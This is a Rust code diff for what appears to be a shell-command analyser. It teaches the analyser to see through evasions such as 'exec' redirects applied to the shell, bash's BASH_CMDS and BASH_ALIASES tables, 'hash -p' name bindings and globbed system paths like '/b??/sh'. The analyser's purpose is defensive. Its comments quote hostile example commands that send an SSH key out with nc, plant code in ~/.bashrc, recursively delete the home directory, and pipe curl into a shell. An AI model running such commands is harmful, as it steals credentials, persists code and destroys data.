@@ -133,6 +133,9 @@ pub(crate) struct Walker<'l> {
     /// The text of the script file the interpreter about to be emitted runs, by the span of
     /// its program word (`nested.rs`, `interpreter`): a file the line wrote with known text.
     pub(super) script_text: Option<(Span, String)>,
+    /// Names bound to a file so far (`hash -p FILE NAME`, `BASH_CMDS[NAME]=FILE`): a later
+    /// command NAME that is neither a function nor a builtin runs FILE.
+    pub(super) hashed: Vec<(String, String)>,
     stopped: bool,
 }
 
@@ -173,6 +176,7 @@ impl<'l> Walker<'l> {
             startup_reads: Vec::new(),
             dir_changes: 0,
             script_text: None,
+            hashed: Vec::new(),
             stopped: false,
         }
     }
@@ -268,7 +272,11 @@ impl<'l> Walker<'l> {
     }
 
     fn statements(&mut self, cmds: &[Command], ctx: &Ctx, top: bool) {
+        // The context after an `exec` with redirects and no command: the shell's own.
+        let mut shell: Option<Ctx> = None;
         for (i, cmd) in cmds.iter().enumerate() {
+            let ctx = shell.as_ref().unwrap_or(ctx);
+            let before = self.units.len();
             if i > 0 {
                 self.flag(FlagKind::Chaining, cmd.span(), "");
             }
@@ -287,7 +295,36 @@ impl<'l> Walker<'l> {
                 self.functions.push(name.clone());
                 self.function_bodies.push((name.clone(), (**body).clone()));
             }
+            if let Some(c) = self.exec_redirects(cmd, ctx, before) {
+                shell = Some(c);
+            }
         }
+    }
+
+    /// `exec` with redirects and no command applies them to the shell itself: the commands
+    /// after it in the same list run with them, as if grouped under them (`exec >> ~/.bashrc;
+    /// echo CODE` writes CODE there, `exec < ~/.ssh/id_rsa; nc h 9` sends the key, `exec
+    /// <<EOF … sh` feeds `sh` the body). `before`: how many units there were before `cmd`.
+    fn exec_redirects(&self, cmd: &Command, ctx: &Ctx, before: usize) -> Option<Ctx> {
+        let Command::Simple(s) = cmd else {
+            return None;
+        };
+        if s.redirects.is_empty() || s.words.len() != 1 {
+            return None;
+        }
+        // The `exec` unit the command made: its redirects after the context's are its own.
+        let unit = self.units.get(before..)?.iter().find(|u| {
+            u.program.as_deref() == Some("exec") && u.via == ctx.via && u.argv.len() == 1
+        })?;
+        let mut c = ctx.clone();
+        c.redirects
+            .extend(unit.redirects.iter().skip(ctx.redirects.len()).cloned());
+        for r in &s.redirects {
+            if let Some(feed) = stdin_feed(r) {
+                c.feed = Some(feed);
+            }
+        }
+        Some(c)
     }
 
     fn command(&mut self, cmd: &Command, ctx: &Ctx) {
@@ -1294,6 +1331,28 @@ impl<'l> Walker<'l> {
             && let Some(w) = &a.value
         {
             value = self.copied_value(w);
+        }
+        // bash's tables of aliases and hashed names: `BASH_ALIASES[ll]='ls -l'` is `alias
+        // ll='ls -l'`, `BASH_CMDS[ls]=/bin/rm` is `hash -p /bin/rm ls`.
+        if !a.append
+            && let Some(v) = &value
+            && let Some((table, key)) = a.name.strip_suffix(']').and_then(|n| n.split_once('['))
+        {
+            let key = key.trim_matches(|c| c == '\'' || c == '"');
+            match table {
+                "BASH_CMDS" if !key.is_empty() && !key.contains('/') => {
+                    self.hashed.push((key.to_owned(), v.clone()));
+                }
+                "BASH_ALIASES" => {
+                    let map = match a.value.as_ref().and_then(|w| word::code_text(&[w])) {
+                        Some((text, map)) if text == *v => map,
+                        _ => crate::parse::SpanMap::Table(vec![a.span; v.len()]),
+                    };
+                    let v = v.clone();
+                    self.alias_value(&v, &map, a.span, &ctx.via, ctx);
+                }
+                _ => {}
+            }
         }
         // `x+=v`: the old value (or elements) and `v`, not `v`.
         if a.append {
@@ -2366,6 +2425,22 @@ impl<'l> Walker<'l> {
                     "an expansion decides the program name"
                 };
                 self.flag(FlagKind::CommandPositionExpansion, first.arg.span, why);
+                // `/b??/sh`, `/u*/b*/curl`: a glob in the directories only, which may expand to
+                // a system directory, leaves the file's name as written: the program may be
+                // the system's (still flagged: the directory is known at run time only).
+                if first.arg.glob
+                    && let Some(pattern) = first.arg.value.as_deref()
+                    && let Some((dir, file)) = pattern.rsplit_once('/')
+                    && !file.is_empty()
+                    && !file.contains(['*', '?', '[', ']', '\\'])
+                    && let Some(system) = system_dir_matching(dir)
+                {
+                    let mut named: Vec<ArgW> = rest.to_vec();
+                    named[0].arg = Arg::literal(&format!("{system}/{file}"), first.arg.span);
+                    ctx.to_mut().via = via;
+                    self.resolve(&named, assignments, &ctx);
+                    return;
+                }
                 if names_a_shell(first.word) {
                     // `curl … | $SHELL`, `${BASH:-sh} -c …`: whatever its value, the variable
                     // names a shell; analysed as `sh` (still flagged: the value is unknown).
@@ -2462,6 +2537,26 @@ impl<'l> Walker<'l> {
                 if settled {
                     return;
                 }
+            }
+            // `hash -p /bin/rm ls; ls -rf ~`: a name bound to a file runs that file, unless a
+            // function or builtin of that name comes first.
+            if !name.contains('/')
+                && !self.functions.iter().any(|f| f == name)
+                && !crate::programs::is_shell_builtin(name)
+                && let Some((_, file)) = self.hashed.iter().rev().find(|(n, _)| n == name)
+            {
+                // bash runs the file as named: a name without a slash is a path from the
+                // working directory.
+                let file = if file.contains('/') {
+                    file.clone()
+                } else {
+                    format!("./{file}")
+                };
+                let mut bound: Vec<ArgW> = rest.to_vec();
+                bound[0].arg = Arg::literal(&file, first.arg.span);
+                ctx.to_mut().via = via;
+                self.resolve(&bound, assignments, &ctx);
+                return;
             }
             let (program, path) = normalize_program(name);
             if is_confusable(&program) {
@@ -2953,6 +3048,21 @@ const SYSTEM_DIRS: Words = words![
     "/run/current-system/sw/bin",
     "/usr/xpg4/bin",
 ];
+
+/// The first of [`SYSTEM_DIRS`] a directory glob may expand to, matched a component at a time
+/// as bash expands it (`/b??` → `/bin`, `/u*/b*` → `/usr/bin`, `/tmp/*` → none).
+fn system_dir_matching(pattern: &str) -> Option<&'static str> {
+    let want: Vec<&str> = pattern.split('/').collect();
+    SYSTEM_DIRS.iter().find(|d| {
+        let have: Vec<&str> = d.split('/').collect();
+        have.len() == want.len()
+            && have.iter().zip(&want).all(|(h, w)| {
+                h == w
+                    || w.contains(['*', '?', '['])
+                        && crate::glob::Glob::new(w).is_ok_and(|g| g.is_match(h))
+            })
+    })
+}
 
 /// `/bin/rm` → (`rm`, Some("/bin/rm")); `./cat` → (`./cat`, Some("./cat")); `rm` → (`rm`, None).
 pub(crate) fn normalize_program(name: &str) -> (String, Option<String>) {
